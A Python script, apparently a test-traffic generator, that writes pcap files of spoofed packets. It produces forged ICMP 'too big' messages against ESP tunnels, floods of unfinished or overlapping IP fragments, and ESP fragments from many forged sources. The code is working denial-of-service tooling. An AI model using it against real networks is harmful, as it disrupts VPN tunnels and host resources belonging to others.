"""What an attacker sends, one round of it, as a capture for blast to repeat.

  flood.py FILE.pcap toobig     SRC-MAC DST-MAC FROM HOST PEER SPI   ICMP "too big: 576" about ESP from HOST to PEER with guessed numbers
  flood.py FILE.pcap fragments  SRC-MAC DST-MAC FROM HOST            first fragments of datagrams that never end
  flood.py FILE.pcap overlap    SRC-MAC DST-MAC FROM HOST            fragments that overlap
  flood.py FILE.pcap esp        SRC-MAC DST-MAC FROM HOST            the same of ESP, from a source of its own each
"""
import ipaddress
import os
import struct
import sys

from frame import checksum, mac


def ip(src, dst, proto, payload, ident=1, frag=0):
    h = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), ident, frag, 64, proto, 0)
    h += ipaddress.ip_address(src).packed + ipaddress.ip_address(dst).packed
    return h[:10] + struct.pack("!H", checksum(h)) + h[12:] + payload


def toobig(source, host, peer, spi, guesses=4096):
    for _ in range(guesses):
        # (far from what is sent here: one in 2**32 over what was sent lately is believed, and should be)
        number = int.from_bytes(os.urandom(4), "big") | 1 << 31
        quoted = struct.pack("!II", int(spi, 0), number) + bytes(20)
        body = struct.pack("!BBHHH", 3, 4, 0, 0, 576) + ip(host, peer, 50, quoted, frag=0x4000)
        yield ip(source, host, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:])


def fragments(source, host, proto=17, many=1024):
    for i in range(many):
        yield ip(source, host, proto, bytes(1000), ident=i, frag=0x2000)


def overlap(source, host):
    for i in range(512):
        yield ip(source, host, 17, bytes(64), ident=i, frag=0x2000)
        yield ip(source, host, 17, b"\xff" * 64, ident=i, frag=0x2000 | 4)


def esp(source, host):
    net = int(ipaddress.ip_address(source))
    for i in range(1024):
        yield ip(str(ipaddress.ip_address(net + i)), host, 50, bytes(1000), ident=i, frag=0x2000)


path, what, src_mac, dst_mac = sys.argv[1:5]
link = mac(dst_mac) + mac(src_mac) + b"\x08\x00"
with open(path, "wb") as f:
    f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
    for packet in {"toobig": toobig, "fragments": fragments, "overlap": overlap, "esp": esp}[what](*sys.argv[5:]):
        frame = link + packet
        f.write(struct.pack("<IIII", 0, 0, len(frame), len(frame)) + frame)
